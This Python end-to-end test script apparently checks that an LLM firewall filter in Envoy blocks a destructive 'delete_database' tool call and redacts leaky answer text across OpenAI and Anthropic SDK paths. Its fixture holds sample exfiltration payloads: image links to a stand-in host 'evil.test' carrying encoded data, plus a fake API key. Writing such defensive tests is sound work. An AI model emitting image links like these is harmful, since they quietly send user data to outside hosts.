"""Drives the official OpenAI and Anthropic Python SDKs through Envoy + the llmfw filter.

Usage: check_streams.py LISTEN_PORT

The upstream is `llmfw-demo-upstream`: a last user text `{"tool": NAME, "arguments": {...}}`
makes it propose that call, `{"text": T, "pieces": N}` answers T (streamed in N deltas). The
filter's plugin config must deny `delete_*` and allow-list no host but `docs.example.com`
(`detect.exfil_allow_hosts`): the answer-text checks expect the image URL and the key in
`LEAKY` replaced in whatever the SDK assembles (JSON, stream iterators, stream helpers). Every check
prints one line (`ok   NAME` or `FAIL NAME: exception` and a short traceback); exits 1 when
any check failed. Run by tests/tests/e2e_sdk.rs; needs `make tools` for the SDKs.
"""

import json
import sys
import traceback

import anthropic
import openai
import pydantic

DENIED = ("delete_database", {"database": "prod"})
ALLOWED = ("get_weather", {"city": "Berlin"})
MODEL = "demo-model"


def script(tool):
    name, arguments = tool
    return json.dumps({"tool": name, "arguments": arguments})


def headers(session):
    return {"x-llmfw-operator": "sdk", "x-llmfw-session": session, "x-llmfw-tenant": "e2e"}


def fn_tool(name):
    # `strict: True`: the chat `.stream()` helper only accepts strict function tools.
    return {
        "type": "function",
        "function": {
            "name": name,
            "strict": True,
            "parameters": {"type": "object", "properties": {}, "additionalProperties": True},
        },
    }


CHAT_TOOLS = [fn_tool(DENIED[0]), fn_tool(ALLOWED[0])]
RESPONSES_TOOLS = [
    {"type": "function", "name": t["function"]["name"], "parameters": t["function"]["parameters"]}
    for t in CHAT_TOOLS
]
ANTHROPIC_TOOLS = [
    {"name": name, "input_schema": {"type": "object"}} for name in (DENIED[0], ALLOWED[0])
]


def check(cond, what):
    if not cond:
        raise AssertionError(what)


def strict(event):
    """Validates an event against its SDK type. The Python SDKs build stream events leniently
    (a missing required field passes); this catches what a strict client would reject.
    """
    try:
        type(event).model_validate(event.to_dict())
    except pydantic.ValidationError as e:
        errors = "; ".join(
            f"{'.'.join(str(p) for p in err['loc'])}: {err['msg']}" for err in e.errors()
        )
        name = getattr(event, "type", type(event).__name__)
        raise AssertionError(f"{name} fails strict validation: {errors}") from None


def refusal_text_ok(text, name):
    check(name in text and "blocked" in text, f"refusal text lacks {name!r}/'blocked': {text!r}")


# The model's answer text: an image carrying data to a host not allow-listed and a key, split
# over many deltas by the upstream; what every SDK path assembles must be REDACTED.
LEAKY = (
    "Summary: ![chart](https://evil.test/c.png?d=c2VjcmV0) and ![ok](https://docs.example.com/a.png) "
    "<img src=\"https://evil.test/i.gif\"> key sk-proj-abcdefghijklmnopqrstuvwxyz0123456789 end."
)
REDACTED = (
    "Summary: ![chart]([llmfw:redacted-url]) and ![ok](https://docs.example.com/a.png) "
    "<img src=\"[llmfw:redacted-url]\"> key [llmfw:redacted-secret] end."
)
# Sent as the `x-demo-reply` script: the request's own text is judged too, and an exfiltration
# link in it would be refused.
REPLY = {"x-demo-reply": json.dumps({"text": LEAKY, "pieces": 50})}
ASK = "Summarise the report."


def redacted_ok(text, where):
    check(text == REDACTED, f"{where}: {text!r}")


# --- OpenAI Chat Completions ---------------------------------------------------------------


def chat_create(port, tool):
    client = openai.OpenAI(
        api_key="sk-dummy", base_url=f"http://127.0.0.1:{port}/v1",
        default_headers=headers("sdk-chat"), max_retries=0,
    )
    stream = client.chat.completions.create(
        model=MODEL, stream=True, tools=CHAT_TOOLS,
        messages=[{"role": "user", "content": script(tool)}],
    )
    content, calls, finish = "", {}, None
    for chunk in stream:
        strict(chunk)
        for choice in chunk.choices:
            delta = choice.delta
            if delta.content:
                content += delta.content
            for tc in delta.tool_calls or []:
                name, args = calls.get(tc.index, ("", ""))
                if tc.function is not None:
                    name += tc.function.name or ""
                    args += tc.function.arguments or ""
                calls[tc.index] = (name, args)
            if choice.finish_reason is not None:
                finish = choice.finish_reason
    return content, calls, finish


def chat_helper(port, tool):
    client = openai.OpenAI(
        api_key="sk-dummy", base_url=f"http://127.0.0.1:{port}/v1",
        default_headers=headers("sdk-chat-helper"), max_retries=0,
    )
    with client.chat.completions.stream(
        model=MODEL, tools=CHAT_TOOLS, messages=[{"role": "user", "content": script(tool)}],
    ) as stream:
        for _ in stream:
            pass
        return stream.get_final_completion()


def check_chat_denied(port):
    content, calls, finish = chat_create(port, DENIED)
    check(not calls, f"tool calls came through: {calls}")
    refusal_text_ok(content, DENIED[0])
    check(finish == "stop", f"finish_reason {finish!r}")


def check_chat_allowed(port):
    content, calls, finish = chat_create(port, ALLOWED)
    check(len(calls) == 1, f"calls: {calls}")
    name, args = calls[0]
    check(name == ALLOWED[0], f"name {name!r}")
    check(json.loads(args) == ALLOWED[1], f"arguments {args!r}")
    check(finish == "tool_calls", f"finish_reason {finish!r}")


def check_chat_helper_denied(port):
    choice = chat_helper(port, DENIED).choices[0]
    check(not choice.message.tool_calls, f"tool calls: {choice.message.tool_calls}")
    refusal_text_ok(choice.message.content or "", DENIED[0])
    check(choice.finish_reason == "stop", f"finish_reason {choice.finish_reason!r}")


def check_chat_helper_allowed(port):
    choice = chat_helper(port, ALLOWED).choices[0]
    calls = choice.message.tool_calls or []
    check(len(calls) == 1, f"tool calls: {calls}")
    check(calls[0].function.name == ALLOWED[0], f"name {calls[0].function.name!r}")
    check(json.loads(calls[0].function.arguments) == ALLOWED[1], "arguments differ")
    check(calls[0].function.parsed_arguments == ALLOWED[1],
          f"parsed_arguments {calls[0].function.parsed_arguments!r}")
    check(choice.finish_reason == "tool_calls", f"finish_reason {choice.finish_reason!r}")


def chat_client(port):
    return openai.OpenAI(
        api_key="sk-dummy", base_url=f"http://127.0.0.1:{port}/v1",
        default_headers=headers("sdk-chat-text"), max_retries=0,
    )


def check_chat_text_redacted(port):
    client = chat_client(port).with_options(default_headers={**headers("sdk-chat-text"), **REPLY})
    messages = [{"role": "user", "content": ASK}]
    completion = client.chat.completions.create(model=MODEL, messages=messages)
    redacted_ok(completion.choices[0].message.content, "create()")
    stream = client.chat.completions.create(model=MODEL, messages=messages, stream=True)
    text = ""
    for chunk in stream:
        strict(chunk)
        for choice in chunk.choices:
            text += choice.delta.content or ""
    redacted_ok(text, "create(stream) deltas")
    with client.chat.completions.stream(model=MODEL, messages=messages) as stream:
        deltas = "".join(e.delta for e in stream if e.type == "content.delta")
        final = stream.get_final_completion()
    redacted_ok(deltas, "stream() content.delta events")
    redacted_ok(final.choices[0].message.content, "stream() final completion")


# --- OpenAI Responses ----------------------------------------------------------------------


def responses_client(port, session):
    return openai.OpenAI(
        api_key="sk-dummy", base_url=f"http://127.0.0.1:{port}/v1",
        default_headers=headers(session), max_retries=0,
    )


def check_final_response(response, name):
    types = [item.type for item in response.output]
    check("function_call" not in types, f"function_call in output: {types}")
    check(response.output_text is not None, "no output_text")
    refusal_text_ok(response.output_text, name)


def check_responses_denied(port):
    client = responses_client(port, "sdk-responses")
    stream = client.responses.create(
        model=MODEL, stream=True, tools=RESPONSES_TOOLS, input=script(DENIED),
    )
    completed = None
    for event in stream:
        strict(event)
        check(getattr(getattr(event, "item", None), "type", None) != "function_call",
              f"function_call item in {event.type}")
        if event.type == "response.completed":
            completed = event.response
    check(completed is not None, "no response.completed event")
    check_final_response(completed, DENIED[0])


def check_responses_helper_denied(port):
    client = responses_client(port, "sdk-responses-helper")
    with client.responses.stream(
        model=MODEL, tools=RESPONSES_TOOLS, input=script(DENIED),
    ) as stream:
        for _ in stream:
            pass
        response = stream.get_final_response()
    check_final_response(response, DENIED[0])


def check_responses_helper_allowed(port):
    client = responses_client(port, "sdk-responses-helper")
    with client.responses.stream(
        model=MODEL, tools=RESPONSES_TOOLS, input=script(ALLOWED),
    ) as stream:
        for _ in stream:
            pass
        response = stream.get_final_response()
    calls = [item for item in response.output if item.type == "function_call"]
    check(len(calls) == 1, f"output: {[item.type for item in response.output]}")
    check(calls[0].name == ALLOWED[0], f"name {calls[0].name!r}")
    check(json.loads(calls[0].arguments) == ALLOWED[1], f"arguments {calls[0].arguments!r}")


def check_responses_text_redacted(port):
    client = responses_client(port, "sdk-responses-text").with_options(
        default_headers={**headers("sdk-responses-text"), **REPLY})
    response = client.responses.create(model=MODEL, input=ASK)
    redacted_ok(response.output_text, "create()")
    stream = client.responses.create(model=MODEL, input=ASK, stream=True)
    deltas, seen = "", set()
    for event in stream:
        strict(event)
        if event.type == "response.output_text.delta":
            deltas += event.delta
        elif event.type == "response.output_text.done":
            redacted_ok(event.text, "output_text.done")
            seen.add(event.type)
        elif event.type == "response.content_part.done":
            redacted_ok(event.part.text, "content_part.done")
            seen.add(event.type)
        elif event.type == "response.output_item.done":
            redacted_ok(event.item.content[0].text, "output_item.done")
            seen.add(event.type)
        elif event.type == "response.completed":
            redacted_ok(event.response.output_text, "response.completed")
            seen.add(event.type)
    redacted_ok(deltas, "create(stream) deltas")
    check(len(seen) == 4, f"repeated forms seen: {sorted(seen)}")
    with client.responses.stream(model=MODEL, input=ASK) as stream:
        for _ in stream:
            pass
        final = stream.get_final_response()
    redacted_ok(final.output_text, "stream() final response")


# --- Anthropic Messages --------------------------------------------------------------------


def anthropic_client(port, session):
    return anthropic.Anthropic(
        api_key="sk-ant-dummy", base_url=f"http://127.0.0.1:{port}",
        default_headers=headers(session), max_retries=0,
    )


def anthropic_args(tool):
    return {
        "model": "claude-demo", "max_tokens": 256, "tools": ANTHROPIC_TOOLS,
        "messages": [{"role": "user", "content": script(tool)}],
    }


def check_anthropic_create_denied(port):
    client = anthropic_client(port, "sdk-anthropic")
    stream = client.messages.create(stream=True, **anthropic_args(DENIED))
    text, stop_reason, names = "", None, []
    for event in stream:
        strict(event)
        names.append(event.type)
        if event.type == "content_block_start":
            check(event.content_block.type != "tool_use", "tool_use block started")
        elif event.type == "content_block_delta":
            check(event.delta.type != "input_json_delta", "input_json_delta came through")
            if event.delta.type == "text_delta":
                text += event.delta.text
        elif event.type == "message_delta":
            stop_reason = event.delta.stop_reason
    check(names[:1] == ["message_start"] and names[-1:] == ["message_stop"], f"events {names}")
    check(stop_reason == "end_turn", f"stop_reason {stop_reason!r}")
    check(DENIED[0] in text, f"text lacks {DENIED[0]!r}: {text!r}")


def anthropic_final(port, tool):
    client = anthropic_client(port, "sdk-anthropic-helper")
    with client.messages.stream(**anthropic_args(tool)) as stream:
        for _ in stream:
            pass
        return stream.get_final_message()


def check_anthropic_helper_denied(port):
    message = anthropic_final(port, DENIED)
    types = [block.type for block in message.content]
    check("tool_use" not in types, f"content: {types}")
    check(message.stop_reason == "end_turn", f"stop_reason {message.stop_reason!r}")
    text = "".join(block.text for block in message.content if block.type == "text")
    check(DENIED[0] in text, f"text lacks {DENIED[0]!r}: {text!r}")


def check_anthropic_helper_allowed(port):
    message = anthropic_final(port, ALLOWED)
    uses = [block for block in message.content if block.type == "tool_use"]
    check(len(uses) == 1, f"content: {[block.type for block in message.content]}")
    check(uses[0].name == ALLOWED[0], f"name {uses[0].name!r}")
    check(uses[0].input == ALLOWED[1], f"input {uses[0].input!r}")
    check(message.stop_reason == "tool_use", f"stop_reason {message.stop_reason!r}")


def check_anthropic_text_redacted(port):
    client = anthropic_client(port, "sdk-anthropic-text").with_options(
        default_headers={**headers("sdk-anthropic-text"), **REPLY})
    args = {"model": "claude-demo", "max_tokens": 256,
            "messages": [{"role": "user", "content": ASK}]}
    message = client.messages.create(**args)
    redacted_ok(message.content[0].text, "create()")
    stream = client.messages.create(stream=True, **args)
    text = ""
    for event in stream:
        strict(event)
        if event.type == "content_block_start" and event.content_block.type == "text":
            text += event.content_block.text
        elif event.type == "content_block_delta" and event.delta.type == "text_delta":
            text += event.delta.text
    redacted_ok(text, "create(stream) deltas")
    with client.messages.stream(**args) as stream:
        streamed = "".join(stream.text_stream)
        final = stream.get_final_message()
    redacted_ok(streamed, "stream() text_stream")
    redacted_ok("".join(b.text for b in final.content if b.type == "text"), "stream() final message")


CHECKS = [
    ("openai chat create(stream) denied", check_chat_denied),
    ("openai chat create(stream) allowed", check_chat_allowed),
    ("openai chat stream() final denied", check_chat_helper_denied),
    ("openai chat stream() final allowed", check_chat_helper_allowed),
    ("openai responses create(stream) denied", check_responses_denied),
    ("openai responses stream() final denied", check_responses_helper_denied),
    ("openai responses stream() final allowed", check_responses_helper_allowed),
    ("anthropic messages create(stream) denied", check_anthropic_create_denied),
    ("anthropic messages stream() final denied", check_anthropic_helper_denied),
    ("anthropic messages stream() final allowed", check_anthropic_helper_allowed),
    ("openai chat answer text redacted (json, stream, helper)", check_chat_text_redacted),
    ("openai responses answer text redacted (json, stream, helper)", check_responses_text_redacted),
    ("anthropic messages answer text redacted (json, stream, helper)", check_anthropic_text_redacted),
]


def main():
    port = int(sys.argv[1])
    print(f"openai {openai.__version__}, anthropic {anthropic.__version__}")
    failed = 0
    for name, fn in CHECKS:
        try:
            fn(port)
            print(f"ok   {name}")
        except Exception as e:  # noqa: BLE001 -- every failure is reported, then counted
            failed += 1
            print(f"FAIL {name}: {type(e).__name__}: {e}")
            traceback.print_exc(limit=-4, file=sys.stdout)
    print(f"{len(CHECKS) - failed}/{len(CHECKS)} checks passed")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
